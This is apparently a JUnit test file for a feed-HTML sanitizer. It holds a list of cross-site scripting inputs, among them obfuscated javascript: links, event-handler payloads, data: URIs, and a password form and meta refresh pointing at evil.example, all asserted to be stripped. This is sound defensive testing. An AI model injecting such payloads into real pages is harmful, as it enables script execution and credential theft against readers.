package dev.bucketpress.markdown.html;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bucketpress.markdown.Markdown;
import dev.bucketpress.markdown.RenderedBody;
import dev.bucketpress.markdown.links.LinkResolver;
import java.util.Locale;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class FeedHtmlTest {

    private static final String PAGE = "https://blog.example.org/blog/2020/02/02/hello/";

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"java&#115;cript:alert(1)\">x</a>",
                "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
                "<a href=\"java&#9;script:alert(1)\">x</a>",
                "<a href=\"java&#10;script:alert(1)\">x</a>",
                "<a href=\"&#1;javascript:alert(1)\">x</a>",
                "<a href=' javascript:alert(1)'>x</a>",
                "<a href=\"vbscript:alert(1)\">x</a>",
                "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
                "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
                "<img src=\" DATA:image/svg+xml;base64,PHN2Zz4=\">",
                "<svg onload=alert(1)></svg>",
                "<video src=\"javascript:alert(1)\" poster=\"javascript:alert(1)\" onplay=alert(1)></video>",
                "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
                "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
                "<style>body{display:none}</style>",
                "<p style='position:fixed'>x</p>",
                "<form action='https://evil.example'><input name=password><button>x</button></form>",
                "<meta http-equiv=refresh content='0;url=https://evil.example'>",
                "<object data='x'></object>",
                "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
            })
    void whatCouldDoReadersHarmIsDropped(String html) {
        assertThat(FeedHtml.of(html + "<p>kept</p>", PAGE))
                .hasValueSatisfying(shown -> assertThat(shown.toLowerCase(Locale.ROOT))
                        .contains("<p>kept</p>")
                        .doesNotContain("script:", "<script", "alert(1)\"", "svg", "style", "evil", "data:", "=alert")
                        .doesNotContain("<input", "<object", "<iframe", "<form", "<math"));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "<p id=\"fn-1\" class=\"x\" style=\"color:red\">a</p>               | <p>a</p>",
                "<p>a<span id=\"more\"></span> b</p>                                | <p>a b</p>",
                "<p>a <span class=\"math\">x^2</span></p>                           | <p>a x^2</p>",
                "<p><span lang=\"en\">a</span></p>                                  | <p><span lang=\"en\">a</span></p>",
                "<a name=\"a\">b</a>                                                | <a>b</a>",
                "<ul><li><input type=\"checkbox\" disabled>a</li></ul>              | <ul><li>a</li></ul>",
                "a<iframe src=\"https://www.youtube.com/embed/x\"></iframe>         | a",
                "<pre><code class=\"language-java\">a &lt; b</code></pre>           | <pre><code>a &lt; b</code></pre>",
                "<img src=\"data:image/png;base64,iVBO\">                           | <img src=\"data:image/png;base64,iVBO\" alt=\"\">",
            })
    void whatRefersToItsOwnPageIsDropped(String html, String shown) {
        assertThat(FeedHtml.of(html, PAGE)).contains(shown);
    }

    @ParameterizedTest
    @CsvSource({
        "/files/x.png, https://blog.example.org/files/x.png",
        "x.png, https://blog.example.org/blog/2020/02/02/hello/x.png",
        "../x.png, https://blog.example.org/blog/2020/02/02/x.png",
        "?a=1, https://blog.example.org/blog/2020/02/02/hello/?a=1",
        "#fn-1, https://blog.example.org/blog/2020/02/02/hello/#fn-1",
        "/中 文/#一, https://blog.example.org/中 文/#一",
        "//other.example/x, https://other.example/x",
        "http://other.example/x, http://other.example/x",
        "mailto:a@example.org, mailto:a@example.org",
        "tel:+123, tel:+123",
    })
    void everyLinkIsAbsolute(String address, String absolute) {
        assertThat(FeedHtml.of("<a href=\"" + address + "\">a</a>", PAGE))
                .contains("<a href=\"" + absolute + "\">a</a>");
    }

    @Test
    void soIsEveryPictureAndRecording() {
        assertThat(FeedHtml.of(
                        "<img src=\"/a.png\" srcset=\"/b.png 2x\"><video src=\"c.mp4\" poster=\"//other.example/d.png\">"
                                + "<source src=\"e.webm\"></video><q cite=\"/f\">g</q>",
                        PAGE))
                .contains(
                        "<img src=\"https://blog.example.org/a.png\" srcset=\"https://blog.example.org/b.png 2x\" alt=\"\">"
                                + "<video src=\"" + PAGE + "c.mp4\" poster=\"https://other.example/d.png\" controls>"
                                + "<source src=\"" + PAGE + "e.webm\"></video>"
                                + "<q cite=\"https://blog.example.org/f\">g</q>");
    }

    @Test
    void aLinkResolvesAgainstItsPageWhateverTheAuthorSays() {
        assertThat(FeedHtml.of("<base href=\"https://evil.example/\"><a href=\"x\">a</a>", PAGE))
                .contains("<a href=\"" + PAGE + "x\">a</a>");
    }

    @Test
    void nothingIsInItThatXmlDoesNotAllow() {
        assertThat(FeedHtml.of("<p title=\"a\u0001\">b\uffff<i>\uffff</i>\ufffec\u0007 😀</p>", PAGE))
                .contains("<p title=\"a\">b<i></i>c 😀</p>");
    }

    @Test
    void whatIsTooLongToCarryOrNothingIsNotCarried() {
        String fits = "<p>" + "一".repeat((FeedHtml.MAX_BYTES - "<p></p>".length()) / 3) + "</p>";

        assertThat(FeedHtml.of("<script>" + "f();".repeat(1000) + "</script>" + fits, PAGE))
                .contains(fits);
        assertThat(FeedHtml.of(fits + "<p></p>", PAGE)).isEmpty();
        assertThat(FeedHtml.of("<script>f()</script> ", PAGE)).isEmpty();
        assertThat(FeedHtml.of("", PAGE)).isEmpty();
    }

    @Test
    void whatWasMadeForFeedsStaysAsItIs() {
        RenderedBody rendered = (RenderedBody) new Markdown(HtmlPolicy.TRUSTED)
                .render(
                        "One[^1] *two* <b onclick='f()'>&amp;</b>\n\n- [x] a\n\n[^1]: b",
                        Optional.empty(),
                        LinkResolver.NONE);
        Optional<String> shown = FeedHtml.of(rendered.html(), PAGE);

        assertThat(shown).isPresent().isEqualTo(FeedHtml.of(shown.get(), PAGE));
    }
}
